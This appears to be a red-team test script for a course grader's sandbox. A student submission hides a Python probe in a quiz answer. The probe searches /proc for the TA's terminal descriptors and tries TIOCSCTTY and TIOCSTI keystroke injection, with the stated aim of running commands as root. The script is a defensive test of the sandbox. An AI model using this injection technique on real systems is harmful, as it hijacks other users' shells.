"""a09: the TA runs `make grade` in a terminal. Run the grader under `script` (a pseudo-terminal as its stdio and
controlling terminal) and look, from the kernel, for any descriptor of any process in the sandbox that is a terminal
(the TA's), then try TIOCSCTTY / TIOCSTI on it (keystrokes typed into the TA's shell would run as root)."""
from common import *
PROBE = r'''
q1 = "b"
import os, fcntl, termios, struct
found = []
for pid in [p for p in os.listdir("/proc") if p.isdigit()]:
    try: fds = os.listdir(f"/proc/{pid}/fd")
    except OSError as e: print(pid, "fd list", e.errno); continue
    for fd in fds:
        try: target = os.readlink(f"/proc/{pid}/fd/{fd}")
        except OSError: continue
        if "pts" in target or "tty" in target or "ptmx" in target or "console" in target:
            found.append((pid, fd, target))
print("terminal-like descriptors:", found)
for fd in range(0, 64):
    try:
        if os.isatty(fd): print("TTY fd", fd)
    except OSError: pass
for pid, fd, target in found:
    try:
        f = os.open(f"/proc/{pid}/fd/{fd}", os.O_RDWR | os.O_NOCTTY)
        print("reopened", target)
        for name, req, arg in (("TIOCSCTTY", termios.TIOCSCTTY, 0), ("TIOCSTI", termios.TIOCSTI, b"#")):
            try: fcntl.ioctl(f, req, arg); print(name, "OK")
            except OSError as e: print(name, e)
    except OSError as e: print("reopen", target, e)
'''
c = make_course("a09")
hand_in(c, "aaron", honest())
hand_in(c, "mallory", honest(overrides={"quiz_q1": PROBE}))
hand_in(c, "zoe", honest())
env = dict(os.environ); env.update(ENV_CANARY)
cmd = f"cd {CLONE} && {PY} -m grader.grade --course-dir {c} --workers 1 ps1_memory"
r = subprocess.run(["script", "-qec", cmd, "/dev/null"], env=env, capture_output=True, text=True, timeout=900)
print("rc", r.returncode, r.stdout[-1500:])
scores(c); quiz_output(c)
